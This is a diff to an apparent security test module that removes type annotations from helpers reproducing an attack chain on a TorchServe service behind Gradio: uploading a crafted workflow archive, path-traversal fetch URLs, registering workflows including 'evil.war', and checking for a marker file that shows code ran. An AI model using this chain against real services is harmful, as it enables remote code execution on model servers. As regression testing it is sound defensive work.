@@ -1,12 +1,9 @@
 """The steps of an attack that once ran code in a service, each usable against a running service."""
 
-from __future__ import annotations
-
 import io
 import json
 import time
 import zipfile
-from collections.abc import Iterable
 from pathlib import Path
 from urllib.parse import quote
 
@@ -19,7 +16,7 @@ HOSTILE = {
 }
 
 
-def workflow_archive(marker: Path) -> bytes:
+def workflow_archive(marker):
     """A TorchServe workflow whose code, once imported, leaves a file."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
@@ -51,7 +48,7 @@ def workflow_archive(marker: Path) -> bytes:
     return out.getvalue()
 
 
-def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
+def upload(page, archive, headers):
     """Step 1: upload a file as a visited web site would; returns its path on the server."""
     answer = httpx.post(
         f"{page}/gradio_api/upload",
@@ -65,7 +62,7 @@ def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
     return str(path)
 
 
-def fetch_addresses(archive: Path, store: Path) -> list[str]:
+def fetch_addresses(archive, store):
     """Step 2: URLs from which TorchServe might fetch a file into its workflow store."""
     relative = Path(*[".."] * 8) / archive.relative_to("/")
     return [
@@ -82,7 +79,7 @@ def fetch_addresses(archive: Path, store: Path) -> list[str]:
     ]
 
 
-def register(management: httpx.Client, addresses: Iterable[str]) -> list[int]:
+def register(management, addresses):
     """Steps 2 and 3: register workflows and models by URL or name; returns the statuses."""
     found = []
     for address in [*addresses, "evil.war"]:
@@ -94,7 +91,7 @@ def register(management: httpx.Client, addresses: Iterable[str]) -> list[int]:
     return found
 
 
-def was_run(marker: Path, seconds: float = 5.0) -> bool:
+def was_run(marker, seconds=5.0):
     """Whether the archive's code ran. Waits a moment, because a worker needs time to import it."""
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
